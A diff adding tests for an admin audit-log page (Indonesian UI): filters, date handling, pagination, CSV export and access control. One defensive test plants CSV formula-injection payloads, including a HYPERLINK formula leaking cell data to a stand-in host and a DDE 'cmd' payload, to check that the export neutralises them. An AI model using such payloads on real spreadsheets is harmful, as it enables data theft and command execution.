@@ -1,0 +1,398 @@
+import { afterEach, beforeEach, describe, expect, it } from 'vitest';
+import type { AuditAction } from '../../src/audit/actions.js';
+import { recordEvent } from '../../src/audit/record-event.js';
+import { inTransaction } from '../../src/db/database.js';
+import { CSV_BOM } from '../../src/web/csv.js';
+import { browser, logIn } from '../helpers/http.js';
+import { binaryParser } from '../helpers/pacts.js';
+import { createTestApp, type TestApp } from '../helpers/test-app.js';
+
+describe('the audit log page', () => {
+  let t: TestApp;
+  beforeEach(() => {
+    t = createTestApp();
+  });
+  afterEach(() => t.close());
+
+  async function asAdmin() {
+    const admin = await t.make.user({
+      role: 'admin',
+      email: 'admin@uji.test',
+      nip: null,
+      fullName: 'Admin Uji',
+    });
+    const agent = browser(t.app);
+    await logIn(agent, 'admin@uji.test');
+    return { admin, agent };
+  }
+
+  /** An event as an operation would record it; `note` ends up in the details, to find the row on the page. */
+  function event(options: {
+    at: string;
+    action?: AuditAction;
+    userId?: number | null;
+    ip?: string | null;
+    userAgent?: string | null;
+    target?: { type: string; id: number };
+    note?: string;
+    details?: Record<string, unknown>;
+  }) {
+    recordEvent(t.services.audit, {
+      actor: {
+        userId: options.userId ?? null,
+        ip: options.ip === undefined ? '10.1.2.3' : options.ip,
+        userAgent: options.userAgent ?? 'Mozilla/5.0 (uji)',
+      },
+      action: options.action ?? 'login.succeeded',
+      ...(options.target ? { target: options.target } : {}),
+      details: options.details ?? (options.note ? { note: options.note } : {}),
+      at: new Date(options.at),
+    });
+  }
+
+  /** Table rows on a page, each as the note of its event (details summary 'note: …'), top to bottom. */
+  const notesOn = (html: string): string[] =>
+    [...html.matchAll(/note: ([\w-]+)/g)].map((m) => m[1] as string);
+  const rowCount = (html: string): number => html.split('<time datetime="').length - 1;
+
+  it('lists events newest first, in WIB, with the actor (or "Sistem"), label, target, IP and details', async () => {
+    const { admin, agent } = await asAdmin();
+    event({ at: '2024-01-10T03:15:00.000Z', note: 'pertama', userId: admin.id, ip: '192.0.2.10' });
+    event({ at: '2024-01-12T03:15:00.000Z', note: 'ketiga', action: 'login.failed', userId: null });
+    event({
+      at: '2024-01-11T03:15:00.000Z',
+      note: 'kedua',
+      action: 'pact.opened',
+      userId: admin.id,
+      target: { type: 'pact', id: 7 },
+    });
+
+    const res = await agent.get('/admin/audit?dari=2024-01-01&sampai=2024-01-31');
+    expect(res.status).toBe(200);
+    expect(res.headers['cache-control']).toBe('no-store');
+    expect(res.text).toContain('<h1 class="h3 mb-0">Log audit</h1>');
+    expect(notesOn(res.text)).toEqual(['ketiga', 'kedua', 'pertama']);
+    expect(res.text).toContain('10 Januari 2024 pukul 10.15 WIB');
+    expect(res.text).toContain('Gagal masuk');
+    expect(res.text).toContain('Membuka pakta untuk ditandatangani');
+    expect(res.text).toContain('Sistem</a>');
+    expect(res.text).toContain('Admin Uji</a>');
+    expect(res.text).toContain('pact #7</a>');
+    expect(res.text).toContain('192.0.2.10');
+    // The nav links the page for admins.
+    expect(res.text).toContain('href="/admin/audit" aria-current="page"');
+    expect(res.text).toContain('href="/admin/pengaturan"');
+  });
+
+  it('summarises structured details on one line', async () => {
+    const { agent } = await asAdmin();
+    event({
+      at: '2024-01-10T03:15:00.000Z',
+      details: { reason: 'wrong_password', units: [3, 4], lockedUntil: null, extra: { a: 1 } },
+    });
+    const res = await agent.get('/admin/audit?dari=2024-01-10&sampai=2024-01-10');
+    expect(res.text).toContain('reason: wrong_password; units: 3, 4; lockedUntil: –; extra: {&#34;a&#34;:1}');
+  });
+
+  describe('filters', () => {
+    it('narrows to one actor by id, to events without a user ("sistem"), and by a name, email or NIP search', async () => {
+      const { agent } = await asAdmin();
+      const budi = await t.make.user({
+        fullName: 'Budi Santoso',
+        email: 'budi@uji.test',
+        nip: '198609262015051001',
+      });
+      const sri = await t.make.user({ fullName: 'Sri Wahyuni', email: 'sri@uji.test' });
+      event({ at: '2024-02-01T01:00:00.000Z', userId: budi.id, note: 'oleh-budi' });
+      event({ at: '2024-02-02T01:00:00.000Z', userId: sri.id, note: 'oleh-sri' });
+      event({ at: '2024-02-03T01:00:00.000Z', userId: null, note: 'oleh-sistem' });
+      const range = 'dari=2024-02-01&sampai=2024-02-28';
+
+      const byId = await agent.get(`/admin/audit?${range}&pelaku=${budi.id}`);
+      expect(byId.status).toBe(200);
+      expect(notesOn(byId.text)).toEqual(['oleh-budi']);
+      expect(byId.text).toContain('Pelaku: Budi Santoso');
+
+      expect(notesOn((await agent.get(`/admin/audit?${range}&pelaku=sistem`)).text)).toEqual(['oleh-sistem']);
+      expect(notesOn((await agent.get(`/admin/audit?${range}&cari_pelaku=santoso`)).text)).toEqual([
+        'oleh-budi',
+      ]);
+      expect(notesOn((await agent.get(`/admin/audit?${range}&cari_pelaku=sri%40uji`)).text)).toEqual([
+        'oleh-sri',
+      ]);
+      const byNip = await agent.get(
+        `/admin/audit?${range}&cari_pelaku=${encodeURIComponent('19860926 201505')}`,
+      );
+      expect(notesOn(byNip.text)).toEqual(['oleh-budi']);
+
+      const nobody = await agent.get(`/admin/audit?${range}&cari_pelaku=tidak-ada-orang`);
+      expect(nobody.status).toBe(200);
+      expect(notesOn(nobody.text)).toEqual([]);
+      expect(nobody.text).toContain('Tidak ada pengguna yang cocok dengan pencarian ini.');
+      expect(nobody.text).toContain('value="tidak-ada-orang"');
+    });
+
+    it('shows every match of a search with links to narrow to one, and refuses a search matching a crowd', async () => {
+      const { agent } = await asAdmin();
+      const a = await t.make.user({ fullName: 'Rina Kusuma' });
+      const b = await t.make.user({ fullName: 'Rina Lestari' });
+      event({ at: '2024-02-01T01:00:00.000Z', userId: a.id, note: 'oleh-kusuma' });
+      event({ at: '2024-02-02T01:00:00.000Z', userId: b.id, note: 'oleh-lestari' });
+      const both = await agent.get('/admin/audit?dari=2024-02-01&cari_pelaku=Rina');
+      expect(notesOn(both.text)).toEqual(['oleh-lestari', 'oleh-kusuma']);
+      expect(both.text).toContain('2 pengguna cocok');
+      expect(both.text).toContain(`href="/admin/audit?pelaku=${a.id}&amp;dari=2024-02-01">Rina Kusuma</a>`);
+
+      for (let i = 0; i < 21; i += 1) await t.make.user({ fullName: `Pegawai Kembar ${i}` });
+      const crowd = await agent.get('/admin/audit?cari_pelaku=Kembar');
+      expect(crowd.status).toBe(400);
+      expect(crowd.text).toContain('Terlalu banyak pengguna yang cocok');
+      expect(crowd.text).toContain('id="cari_pelaku-error"');
+      expect(crowd.text).toContain('value="Kembar"');
+      expect(rowCount(crowd.text)).toBe(0);
+    });
+
+    it('narrows by action and by target', async () => {
+      const { agent } = await asAdmin();
+      event({
+        at: '2024-03-01T01:00:00.000Z',
+        action: 'pact.created',
+        target: { type: 'pact', id: 1 },
+        note: 'buat-1',
+      });
+      event({
+        at: '2024-03-02T01:00:00.000Z',
+        action: 'pact.opened',
+        target: { type: 'pact', id: 1 },
+        note: 'buka-1',
+      });
+      event({
+        at: '2024-03-03T01:00:00.000Z',
+        action: 'pact.created',
+        target: { type: 'pact', id: 2 },
+        note: 'buat-2',
+      });
+      event({
+        at: '2024-03-04T01:00:00.000Z',
+        action: 'logout',
+        target: { type: 'user', id: 1 },
+        note: 'keluar',
+      });
+      const range = 'dari=2024-03-01&sampai=2024-03-31';
+
+      const created = await agent.get(`/admin/audit?${range}&aksi=pact.created`);
+      expect(notesOn(created.text)).toEqual(['buat-2', 'buat-1']);
+      expect(created.text).toContain('<option value="pact.created" selected>Membuat draf pakta</option>');
+      expect(
+        notesOn((await agent.get(`/admin/audit?${range}&sasaran_jenis=pact&sasaran_id=1`)).text),
+      ).toEqual(['buka-1', 'buat-1']);
+      expect(notesOn((await agent.get(`/admin/audit?${range}&sasaran_jenis=pact`)).text)).toEqual([
+        'buat-2',
+        'buka-1',
+        'buat-1',
+      ]);
+      const combined = await agent.get(
+        `/admin/audit?${range}&aksi=pact.created&sasaran_jenis=pact&sasaran_id=2`,
+      );
+      expect(notesOn(combined.text)).toEqual(['buat-2']);
+      // Empty fields from the GET form count as not given.
+      const blank = await agent.get(
+        `/admin/audit?${range}&pelaku=&cari_pelaku=&aksi=&sasaran_jenis=&sasaran_id=`,
+      );
+      expect(notesOn(blank.text)).toEqual(['keluar', 'buat-2', 'buka-1', 'buat-1']);
+    });
+
+    it('reads the date range as whole days in WIB (UTC+7)', async () => {
+      const { agent } = await asAdmin();
+      event({ at: '2024-01-15T16:59:59.999Z', note: 'tgl15-akhir' }); // 15 Jan 23:59:59 WIB
+      event({ at: '2024-01-15T17:00:00.000Z', note: 'tgl16-awal' }); // 16 Jan 00:00 WIB
+      event({ at: '2024-01-16T16:59:59.999Z', note: 'tgl16-akhir' }); // 16 Jan 23:59:59 WIB
+      event({ at: '2024-01-16T17:00:00.000Z', note: 'tgl17-awal' }); // 17 Jan 00:00 WIB
+
+      const oneDay = await agent.get('/admin/audit?dari=2024-01-16&sampai=2024-01-16');
+      expect(notesOn(oneDay.text)).toEqual(['tgl16-akhir', 'tgl16-awal']);
+      expect(oneDay.text).toContain('value="2024-01-16"');
+      expect(notesOn((await agent.get('/admin/audit?sampai=2024-01-15')).text)).toEqual(['tgl15-akhir']);
+      const from17 = notesOn((await agent.get('/admin/audit?dari=2024-01-17')).text);
+      expect(from17).toContain('tgl17-awal');
+      expect(from17).not.toContain('tgl16-akhir');
+    });
+
+    it.each([
+      ['dari=2024-02-31', 'dari', 'Isi tanggal yang sah (TTTT-BB-HH).', '2024-02-31'],
+      ['sampai=16-01-2024', 'sampai', 'Isi tanggal yang sah (TTTT-BB-HH).', '16-01-2024'],
+      [
+        'dari=2024-01-20&sampai=2024-01-10',
+        'sampai',
+        'Tanggal akhir tidak boleh sebelum tanggal awal.',
+        '2024-01-10',
+      ],
+      ['aksi=pact.deleted', 'aksi', 'Pilih kegiatan dari daftar.', null],
+      ['aksi=login.failed&aksi=logout', 'aksi', 'Isian tidak sah.', null],
+      ['pelaku=12abc', 'pelaku', 'ID pelaku harus berupa angka ID pengguna', '12abc'],
+      ['pelaku=007', 'pelaku', 'ID pelaku harus berupa angka ID pengguna', '007'],
+      ['sasaran_jenis=pact&sasaran_id=1e3', 'sasaran_id', 'ID sasaran harus berupa angka.', '1e3'],
+      ['sasaran_id=5', 'sasaran_jenis', 'Isi jenis sasaran untuk mencari menurut ID sasaran.', null],
+      ['sasaran_jenis=Pact%3B', 'sasaran_jenis', 'Jenis sasaran hanya boleh berisi huruf kecil', 'Pact;'],
+      ['cari_pelaku=ab', 'cari_pelaku', 'Ketik minimal 3 karakter', 'ab'],
+      ['cari_pelaku=a%00bc', 'cari_pelaku', 'karakter yang tidak sah', null],
+      ['halaman=0', 'halaman', 'Nomor halaman tidak sah.', null],
+      ['halaman=-1', 'halaman', 'Nomor halaman tidak sah.', null],
+      ['format=xlsx', 'format', 'Format ekspor tidak dikenal.', null],
+    ])(
+      'refuses %s with 400, a message beside the field and the input kept',
+      async (query, field, message, kept) => {
+        const { agent } = await asAdmin();
+        event({ at: '2024-01-15T03:00:00.000Z', note: 'tidak-tampil' });
+        const res = await agent.get(`/admin/audit?${query}`);
+        expect(res.status).toBe(400);
+        expect(res.text).toContain(message);
+        expect(res.text).toContain(`href="#${field}"`);
+        if (kept !== null) expect(res.text).toContain(`value="${kept}"`);
+        expect(rowCount(res.text)).toBe(0);
+        expect(res.text).not.toContain('Unduh CSV');
+      },
+    );
+
+    it('answers a bad export request with the same 400 page, not a file', async () => {
+      const { agent } = await asAdmin();
+      const res = await agent.get('/admin/audit?format=csv&dari=2024-13-01');
+      expect(res.status).toBe(400);
+      expect(res.headers['content-type']).toMatch(/^text\/html/);
+      expect(res.headers['content-disposition']).toBeUndefined();
+    });
+  });
+
+  it('pages 50 events at a time, newest first, keeping the filter in the links', async () => {
+    const { agent } = await asAdmin();
+    const start = Date.parse('2024-05-01T00:00:00.000Z');
+    inTransaction(t.db, () => {
+      for (let i = 0; i < 120; i += 1)
+        event({ at: new Date(start + i * 60_000).toISOString(), note: `e${i}` });
+    });
+    const range = 'dari=2024-05-01&sampai=2024-05-31';
+    const first = await agent.get(`/admin/audit?${range}`);
+    expect(rowCount(first.text)).toBe(50);
+    expect(notesOn(first.text)[0]).toBe('e119');
+    expect(notesOn(first.text)[49]).toBe('e70');
+    expect(first.text).toContain('Halaman 1');
+    expect(first.text).toContain(
+      'href="/admin/audit?dari=2024-05-01&amp;sampai=2024-05-31&amp;halaman=2" rel="next"',
+    );
+    expect(first.text).not.toContain('rel="prev"');
+
+    const second = await agent.get(`/admin/audit?${range}&halaman=2`);
+    expect(notesOn(second.text)[0]).toBe('e69');
+    expect(second.text).toContain('href="/admin/audit?dari=2024-05-01&amp;sampai=2024-05-31" rel="prev"');
+
+    const third = await agent.get(`/admin/audit?${range}&halaman=3`);
+    expect(notesOn(third.text)).toEqual(Array.from({ length: 20 }, (_, i) => `e${19 - i}`));
+    expect(third.text).toContain(
+      'href="/admin/audit?dari=2024-05-01&amp;sampai=2024-05-31&amp;halaman=2" rel="prev"',
+    );
+    expect(third.text).not.toContain('rel="next"');
+
+    const beyond = await agent.get(`/admin/audit?${range}&halaman=9`);
+    expect(beyond.status).toBe(200);
+    expect(beyond.text).toContain('Tidak ada kegiatan yang cocok dengan saringan ini.');
+  });
+
+  describe('CSV export', () => {
+    const csvOf = async (agent: ReturnType<typeof browser>, query: string) => {
+      const res = await agent.get(`/admin/audit?${query}`).buffer(true).parse(binaryParser);
+      return { res, text: (res.body as Buffer).toString('utf8') };
+    };
+
+    it('sends the filtered events as an attachment: UTF-8 with a BOM, a header, one row per event', async () => {
+      const { admin, agent } = await asAdmin();
+      event({
+        at: '2024-01-15T03:15:00.000Z',
+        userId: admin.id,
+        action: 'pact.opened',
+        target: { type: 'pact', id: 3 },
+        details: { title: 'Pakta; "Netralitas" 2024' },
+      });
+      event({
+        at: '2024-01-16T03:15:00.000Z',
+        userId: null,
+        ip: null,
+        action: 'login.failed',
+        note: 'sistem',
+      });
+      event({ at: '2023-12-01T03:15:00.000Z', note: 'di-luar-rentang' });
+
+      const { res, text } = await csvOf(agent, 'format=csv&dari=2024-01-01&sampai=2024-01-31');
+      expect(res.status).toBe(200);
+      expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
+      expect(res.headers['content-disposition']).toMatch(
+        /^attachment; filename="log-audit-\d{8}-\d{4}\.csv"$/,
+      );
+      expect(res.headers['cache-control']).toBe('no-store');
+      expect(text.startsWith(CSV_BOM)).toBe(true);
+      const lines = text.slice(1).split('\r\n');
+      expect(lines.at(-1)).toBe('');
+      expect(lines.slice(0, -1)).toEqual([
+        'Waktu (WIB);Waktu (UTC);ID pelaku;Pelaku;Kode kegiatan;Kegiatan;Jenis sasaran;ID sasaran;Alamat IP;Peramban;Rincian',
+        '2024-01-16 10:15:00;2024-01-16T03:15:00.000Z;;Sistem;login.failed;Gagal masuk;;;;Mozilla/5.0 (uji);"{""note"":""sistem""}"',
+        `2024-01-15 10:15:00;2024-01-15T03:15:00.000Z;${admin.id};Admin Uji;pact.opened;Membuka pakta untuk ditandatangani;pact;3;10.1.2.3;Mozilla/5.0 (uji);"{""title"":""Pakta; \\""Netralitas\\"" 2024""}"`,
+      ]);
+    });
+
+    it('neutralises cells that a spreadsheet would run as a formula', async () => {
+      const { agent } = await asAdmin();
+      const attacker = await t.make.user({ fullName: '=HYPERLINK("http://jahat.test/?d="&A1,"Klik")' });
+      event({
+        at: '2024-01-15T03:15:00.000Z',
+        userId: attacker.id,
+        userAgent: '@SUM(1+1)*cmd|" /C calc"!A0',
+        note: 'x',
+      });
+      const { text } = await csvOf(agent, 'format=csv&dari=2024-01-15&sampai=2024-01-15');
+      const row = text.split('\r\n')[1] as string;
+      expect(row).toContain(`;"'=HYPERLINK(""http://jahat.test/?d=""&A1,""Klik"")";`);
+      expect(row).toContain(`;"'@SUM(1+1)*cmd|"" /C calc""!A0";`);
+      expect(text).not.toMatch(/(^|;|\r\n)"?[=+\-@]/);
+    });
+
+    it('exports every event across its chunks, even events sharing a time, once each', async () => {
+      const { agent } = await asAdmin();
+      const at = Date.parse('2024-06-01T00:00:00.000Z');
+      inTransaction(t.db, () => {
+        // 4 500 events over 900 distinct times: the export's chunks (2 000) end in the middle of a shared time.
+        for (let i = 0; i < 4500; i += 1) {
+          event({
+            at: new Date(at + Math.floor(i / 5) * 1000).toISOString(),
+            action: 'logout',
+            note: `n${i}`,
+          });
+        }
+      });
+      const { text } = await csvOf(agent, 'format=csv&aksi=logout&dari=2024-06-01&sampai=2024-06-01');
+      const notes = [...text.matchAll(/""note"":""(n\d+)""/g)].map((m) => m[1]);
+      expect(notes).toHaveLength(4500);
+      expect(new Set(notes).size).toBe(4500);
+      expect(notes[0]).toBe('n4499');
+      expect(notes.at(-1)).toBe('n0');
+    });
+  });
+
+  describe('access', () => {
+    it.each(['operator', 'signer'] as const)('refuses a %s with 403, page and export alike', async (role) => {
+      await t.make.user({ role, email: `${role}@uji.test` });
+      const agent = browser(t.app);
+      await logIn(agent, `${role}@uji.test`);
+      for (const path of ['/admin/audit', '/admin/audit?format=csv']) {
+        const res = await agent.get(path);
+        expect(res.status).toBe(403);
+        expect(res.text).toContain('Akses ditolak');
+        expect(res.headers['content-disposition']).toBeUndefined();
+      }
+    });
+
+    it('sends a visitor who is not logged in to the login page', async () => {
+      const res = await browser(t.app).get('/admin/audit?format=csv');
+      expect(res.status).toBe(302);
+      expect(res.headers.location).toBe('/masuk?next=%2Fadmin%2Faudit%3Fformat%3Dcsv');
+    });
+  });
+});
